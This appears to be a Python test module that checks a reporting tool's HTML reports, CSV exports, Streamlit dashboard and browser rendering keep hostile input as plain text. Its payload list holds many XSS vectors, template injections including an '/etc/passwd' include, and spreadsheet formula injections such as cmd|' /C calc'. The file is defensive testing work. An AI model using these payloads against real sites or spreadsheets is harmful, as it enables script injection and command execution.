"""S5 of ``design/trust.md``: scripts and formulas in names, labels, notes and reasons stay text.

Each payload stands in every field that comes from outside, of a run in a folder and of the same run in the
record with reviews. A page that carries it must have exactly the tags, attributes, styles and comments of a
page that carries a harmless word: then nothing of it is markup. A browser opens the pages without their
content security policy, so that escaping alone is tested.
"""

from __future__ import annotations

import csv
import html
import io
import itertools
import re
import shutil
import subprocess
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from dashboard.offered import pages
from google.protobuf.message import Message
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from differnet.records import Inspection, Record, Region, Verdict
from differnet.reporting.keeping import keep_run
from differnet.reporting.report import render_report
from differnet.reporting.run import CalibrationFacts, RunFacts, ThresholdsSet
from differnet.reporting.run_folder import RunFolder
from differnet.reporting.serving import dashboard_app, dashboard_environment
from differnet.reporting.stored_run import StoredRun
from differnet.reporting.tables import csv_text, legible, records_table
from differnet.store import ReviewEntry, Store
from trust.finding import Figure, Finding

HARMLESS = "word"

# What a script does that runs: it leaves a mark on the page's root.
_ACT = "document.documentElement.dataset.ran=1"

_SCRIPTS = (
    f"<script>{_ACT}</script>",
    f"<ScRiPt>{_ACT}</sCrIpT>",
    f"<script\n>{_ACT}</script >",
    f"<script src=data:,{_ACT}></script>",
    f"<<script>{_ACT}//<</script>",
    f'"><script>{_ACT}</script>',
    f"'><script>{_ACT}</script>",
    f"</title><script>{_ACT}</script>",
    f"</style><script>{_ACT}</script>",
    f"</textarea><script>{_ACT}</script>",
    f"--><script>{_ACT}</script>",
    f"]]><script>{_ACT}</script>",
    f"</svg><script>{_ACT}</script>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg/onload={_ACT}>",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_ACT}><text y=9>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_ACT}>",
    f"<img src=x onerror={_ACT}>",
    f"<img src=x:x onerror ={_ACT}//",
    f"<img/src=x/onerror={_ACT}>",
    f'"><img src=x onerror={_ACT}>',
    f"' onmouseover='{_ACT}",
    f'" onfocus="{_ACT}" autofocus tabindex=0 x="',
    f'" onload="{_ACT}',
    f'x" src="x" onerror="{_ACT}',
    f"<body onload={_ACT}>",
    f"<input autofocus onfocus={_ACT}>",
    f"<details open ontoggle={_ACT}>x",
    f"<video><source onerror={_ACT}></video>",
    f"<audio src=x onerror={_ACT}>",
    f"<marquee onstart={_ACT}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{_ACT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_ACT}></iframe>",
    f"<object data=javascript:{_ACT}></object>",
    f"<embed src=javascript:{_ACT}>",
    f"<form action=javascript:{_ACT}><button>x</button></form>",
    f"<a href=javascript:{_ACT}>x</a>",
    f"<a href='java\tscript:{_ACT}'>x</a>",
    f"<base href=javascript:{_ACT}//>",
    f"javascript:{_ACT}",
    f"data:text/html,<script>{_ACT}</script>",
    f"<noscript><p title='</noscript><script>{_ACT}</script>'>",
    f"<template><script>{_ACT}</script></template>",
    f"<xmp><script>{_ACT}</script></xmp>",
    f"&lt;script&gt;{_ACT}&lt;/script&gt;",
    f"&#60;script&#62;{_ACT}&#60;/script&#62;",
    f"\\x3cscript\\x3e{_ACT}\\x3c/script\\x3e",
    f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{_ACT}",
    f"{{{{ ''.__class__ }}}}<script>{_ACT}</script>",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "${7*7}",
)
_STYLES_AND_LINKS = (
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=http://127.0.0.1:9/a.css>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<img src=http://127.0.0.1:9/a.png>",
    '" style="position:fixed;inset:0;background:url(http://127.0.0.1:9/a)',
    "1; } body { display: none } /*",
    "url(http://127.0.0.1:9/a.png)",
    "@import 'http://127.0.0.1:9/a.css';",
    "<!-- ",
    "--!>",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "</div></main></body></html>",
    "<plaintext>",
    "![x](http://127.0.0.1:9/a.png)",
    f"[x](javascript:{_ACT})",
    f"<http://127.0.0.1:9/><b onclick={_ACT}>",
    "[x]: http://127.0.0.1:9/ 'x'\n[x]",
    "\u202egnp.exe",
    "a\u2028b\u2029c\x85d",
)
_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    '=WEBSERVICE("http://127.0.0.1:9/")',
    '=IMPORTXML("http://127.0.0.1:9/","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "a;=1+1;b",
    'a;"=1+1;b',
    "a\t=1+1",
    "a\n=1+1,b",
    '",=1+1,"',
    '"\n=1+1,"',
    "%0A=1+1",
    ";-1+1",
)
PAYLOADS = _SCRIPTS + _STYLES_AND_LINKS + _FORMULAS
"""A hundred different ones."""

_FORMULA_STARTS = (
    *("=", "+", "-", "@", "\t", "\r", "\n", "\N{FULLWIDTH EQUALS SIGN}", "\N{FULLWIDTH PLUS SIGN}"),
    *("\N{FULLWIDTH HYPHEN-MINUS}", "\N{FULLWIDTH COMMERCIAL AT}"),
)


class Skeleton(HTMLParser):
    """Everything of a page but its words: tags with their attributes, styles, comments, declarations.

    Args:
        page: HTML.

    Attributes:
        parts: In their order. Of ``alt`` only that it is there: it is words as well.
        words: What a reader sees.
    """

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[tuple[Any, ...]] = []
        self.words: list[str] = []
        self._raw = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        shown = [(name, None if name == "alt" else value) for name, value in attrs]
        self.parts.append(("open", tag, *shown))
        self._raw = tag in self.CDATA_CONTENT_ELEMENTS

    def handle_endtag(self, tag: str) -> None:
        self.parts.append(("close", tag))
        self._raw = False

    def handle_data(self, data: str) -> None:
        if self._raw:
            self.parts.append(("raw", data))
        else:
            self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.parts.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.parts.append(("declaration", decl))

    def unknown_decl(self, data: str) -> None:
        self.parts.append(("unknown", data))

    def handle_pi(self, data: str) -> None:
        self.parts.append(("instruction", data))


def hostile_run(
    folder: Path, payloads: Sequence[str], store: Store | None = None
) -> tuple[RunFolder, StoredRun]:
    """Make a run whose every field from outside is a payload, with reviews that are too.

    Args:
        folder: A new one.
        payloads: Each stands in a record of every verdict; the first also in the run's own facts.
        store: The record to keep it in; one of its own in the folder otherwise.

    Returns:
        The run's folder, and the run as the record holds it.
    """
    first = payloads[0]
    facts = RunFacts(
        run_id=first,
        product=first,
        source=first,
        model_id=first,
        calibration_id=first,
        calibration=CalibrationFacts(200, 0.05, 0.01, 1 / 201, scheme=first),
        t_review=1.3,
        t_defect=2.0,
        threshold_revision=1,
        thresholds_set=ThresholdsSet(1, first, first, first, first, first),
        versions={first: first},
        details={text: text for text in payloads},
        commit=first,
        started_at=first,
    )
    run = RunFolder.create(folder / "runs" / "run", facts)
    pixels, heat = np.full((16, 16, 3), 128, np.uint8), np.full((4, 4), 5, np.float32)
    for place, text in enumerate(payloads):
        for column, verdict in enumerate(Verdict):
            number = place * len(Verdict) + column
            record = replace(_record(number, text), verdict=verdict)
            read = verdict is not Verdict.INVALID
            run.append(Inspection(record, heat if read else None), pixels if read else None)
    run.close()
    kept_in = store if store is not None else Store.open(folder / "record.db")
    keep_run(kept_in, run)
    for record in run.records:
        text = record.part_id
        said = {Verdict.PASS: "defect", Verdict.DEFECT: "good", Verdict.REVIEW: "unsure"}.get(record.verdict)
        if said == "defect":
            kept_in.review(run.facts.run_id, record.item_id, ReviewEntry("defect", text, text, text))
        elif said is not None:
            kept_in.review(run.facts.run_id, record.item_id, ReviewEntry(said, text, "", text))  # type: ignore[arg-type]
    kept = StoredRun(kept_in, run.facts.run_id)
    if store is None:
        kept_in.close()
    return run, kept


def _record(number: int, text: str) -> Record:
    return Record(
        run_id="",
        item_id=f"i{number}",
        part_id=text,
        view_id=text,
        path=text,
        sha256=f"{number:064x}",
        verdict=Verdict.PASS,
        reasons=(text, text),
        label=text,
        product=text,
        captured_at=text,
        strangeness=2.5,
        p_value=0.004,
        t_review=1.3,
        t_defect=2.0,
        threshold_revision=1,
        regions=(Region(1, 1, 4, 4, 9, 5.0, 0.01),),
        model_id=text,
        calibration_id=text,
        backend=text,
        precision=text,
        device=text,
        width=16,
        height=16,
        quality_flags=(text,),
    )


def page_troubles(payloads: Sequence[str]) -> list[str]:
    """Render a report of each payload, and name those that change more of the page than its words.

    Args:
        payloads: To put into every field.

    Returns:
        What is wrong; nothing where all is well.
    """
    troubles = []
    with _folder() as folder:
        store = Store.open(folder / "record.db")
        places = (folder / str(number) for number in itertools.count())
        plain = Skeleton(render_report(hostile_run(next(places), [HARMLESS], store)[1])).parts
        pages = [render_report(hostile_run(next(places), [text], store)[1]) for text in payloads]
        store.close()
    for text, page in zip(payloads, pages, strict=True):
        found = Skeleton(page)
        if found.parts != plain:
            troubles.append(f"{text!r} is markup")
        if legible(text) not in "".join(found.words):
            troubles.append(f"{text!r} is not shown as it is")
    return troubles


def csv_troubles(payloads: Sequence[str]) -> tuple[int, list[str]]:
    """Write a table of payloads, and read it as spreadsheets of three kinds of lists do.

    Args:
        payloads: To put into every field, and into names of columns.

    Returns:
        How many cells were read, and which of them are formulas.
    """
    records = [_record(number, text) for number, text in enumerate(payloads)]
    table = records_table(records)
    raw = table.assign(view_id=list(payloads)).rename(columns={"view_id": payloads[0]})
    cells = [
        cell
        # Records have no line ends; a table that has them is read by its own delimiter.
        for text, delimiters in ((csv_text(table), ",;\t"), (csv_text(raw), ","))
        for delimiter in delimiters
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
    return len(cells), [cell for cell in cells if is_formula(cell)]


def is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet takes a cell for a formula; a number is none."""
    if not cell.lstrip(" \N{NO-BREAK SPACE}\ufeff").startswith(_FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def dashboard_troubles(payloads: Sequence[str]) -> tuple[int, list[str]]:
    """Open every page of the dashboard over payloads, each picture on its own, and read what is Markdown.

    Args:
        payloads: To put into every field.

    Returns:
        How many elements were read, and which of them hold a link, a picture or HTML.
    """
    troubles, seen = [], 0
    with _folder() as folder, pytest.MonkeyPatch.context() as patch:
        run, _ = hostile_run(folder, payloads)
        for name, value in dashboard_environment(str(folder / "record.db"), folder).items():
            patch.setenv(name, value)
        patch.setattr("sys.argv", ["app.py"])
        app = AppTest.from_file(str(dashboard_app()), default_timeout=120).run()

        def look() -> None:
            nonlocal seen
            for words, allows_html in _marked_down(app):
                seen += 1
                if is_alive(words, allows_html, payloads):
                    troubles.append(words[:120])
            troubles.extend(str(error.value) for error in app.exception)

        look()
        for page in pages():
            app.switch_page(f"{page}.py").run()
            look()
        app.switch_page("picture.py").run()
        chosen = [record.item_id for record in run.records if record.verdict is Verdict.DEFECT]
        for item_id in chosen:
            app.selectbox(key="item").set_value(item_id).run()
            look()
    return seen, troubles


# What Streamlit shows as it is, by element and field. Whatever is not here counts as Markdown.
_PLAIN = (
    *(
        r"Text\.body",
        r"Code\.code_text",
        r"Json\.body",
        r"(Selectbox|MultiSelect)\.(options|raw_values?|placeholder)",
    ),
    *(r"(TextInput|TextArea)\.(default|value|placeholder)", r".*\.alt", r".*\.id", r".*\.url"),
    *(r"PageLink\.(query_string|page|page_script_hash)", r"VegaLiteChart\..*", r"BidiComponent\..*"),
)
_IS_PLAIN = re.compile("|".join(_PLAIN))


def _marked_down(app: AppTest) -> Iterator[tuple[str, bool]]:
    """Give every text that Streamlit may read as Markdown, and whether HTML in it is alive."""
    for proto in _protos(app._tree):
        kind = proto.DESCRIPTOR.full_name
        alive = kind == "Html" or bool(getattr(proto, "allow_html", False))
        for name, words in _strings(proto, kind):
            if not _IS_PLAIN.fullmatch(name):
                yield words, alive
    for element in app.table:
        for cell in [*element.value.columns, *element.value.index, *element.value.to_numpy().ravel()]:
            yield str(cell), False


def _protos(node: Any) -> Iterator[Message]:
    """Give the messages of all elements and blocks below a node of a page."""
    if (proto := getattr(node, "proto", None)) is not None:
        yield proto
    for child in getattr(node, "children", {}).values():
        yield from _protos(child)


def _strings(message: Message, place: str) -> Iterator[tuple[str, str]]:
    """Give the texts of a message, each with the names of the fields that lead to it."""
    for field, held in message.ListFields():
        if field.message_type is not None and field.message_type.GetOptions().map_entry:
            continue
        for each in held if field.is_repeated else [held]:
            if isinstance(each, Message):
                yield from _strings(each, f"{place}.{field.name}")
            elif isinstance(each, str):
                yield f"{place}.{field.name}", each


def is_alive(words: str, allows_html: bool, payloads: Sequence[str]) -> bool:
    """Tell whether something from outside may be more than words in a text of a page.

    Args:
        words: The text.
        allows_html: Whether HTML in it is alive: then it is the page's own, without a payload as it is.
        payloads: What came from outside.
    """
    if allows_html:
        return any(payload in words for payload in payloads if set(payload) & set("<>&\"'"))
    return is_active_markdown(words)


def is_active_markdown(words: str) -> bool:
    """Tell whether Markdown makes a link, a picture or HTML of words."""
    active = {"link_open", "image", "html_inline", "html_block"}
    tokens = MarkdownIt("commonmark").parse(words)
    inner = [child for token in tokens for child in token.children or ()]
    return any(token.type in active for token in [*tokens, *inner])


def browser() -> str | None:
    """Find a Chromium, which can open a page and write what became of it."""
    return next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)


def browser_troubles(program: str, payloads: Sequence[str], together: int = 20) -> tuple[int, list[str]]:
    """Open reports in a browser, without their policy, and name the pages on which a script ran.

    Args:
        program: The browser.
        payloads: To put into every field.
        together: Of them on one page.

    Returns:
        How many pages were opened, and what is wrong.
    """
    troubles, opened = [], 0
    for start in range(0, len(payloads), together):
        some = payloads[start : start + together]
        with _folder() as folder:
            page = render_report(hostile_run(folder, some)[1], flagged_shown=3 * together)
            root = open_page(program, folder, page)
        opened += 1
        title = re.search(r"<title>(.*?)</title>", page, re.DOTALL)
        if "data-ran" in root[0] or title is None or html.unescape(title[1]) != root[1]:
            troubles.append(f"a script ran, or the title changed, on the page of {some[0]!r}")
    return opened, troubles


def open_page(program: str, folder: Path, page: str) -> tuple[str, str]:
    """Open a page without its content security policy.

    Returns:
        The root's tag as it is after all that would run has run, and the page's title.
    """
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    if bare == page:
        raise AssertionError("the page has no policy")
    file = folder / "page.html"
    file.write_text(bare, encoding="utf-8")
    dumped = subprocess.run(
        [
            program,
            *("--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000", "--dump-dom"),
            *("--disable-background-networking", f"--user-data-dir={folder / 'profile'}", file.as_uri()),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    ).stdout.decode("utf-8")
    root = re.search(r"<html[^>]*>", dumped)
    title = re.search(r"<title>(.*?)</title>", dumped, re.DOTALL)
    if root is None or title is None:
        raise AssertionError("the browser wrote no page")
    return root[0], html.unescape(title[1])


def payloads_stay_text(size: int, seed: int = 0, *, everywhere: bool = True) -> Finding:
    """S5. Put payloads into everything from outside, and look at report, tables, dashboard and browser.

    Args:
        size: How many payloads, drawn without putting back.
        seed: Of which, and of their order.
        everywhere: Open the dashboard and, where there is one, a browser as well.
    """
    began = time.monotonic()
    places = np.random.default_rng(seed).permutation(len(PAYLOADS))[:size]
    chosen = [PAYLOADS[int(place)] for place in places]
    figures: dict[str, Figure] = {"pages": size}
    troubles = page_troubles(chosen)
    figures["changed pages"] = len(troubles)
    cells, formulas = csv_troubles(chosen)
    figures |= {"cells": cells, "formulas": len(formulas)}
    found: list[tuple[str, Callable[[], tuple[int, list[str]]]]] = []
    if everywhere:
        found.append(("dashboard elements", lambda: dashboard_troubles(chosen)))
        program = browser()
        if program is not None:
            found.append(("pages in a browser", lambda: browser_troubles(program, chosen)))
    for name, look in found:
        count, wrong = look()
        figures |= {name: count, f"{name} that are alive": len(wrong)}
        troubles += wrong
    if troubles or formulas:
        figures["first"] = (troubles + formulas)[0]
    passed = not troubles and not formulas and cells > 0
    title = "script and formula payloads in names, labels and notes"
    return Finding("S5", title, size, figures, passed, time.monotonic() - began)


@contextmanager
def _folder() -> Iterator[Path]:
    with tempfile.TemporaryDirectory() as folder:
        yield Path(folder)
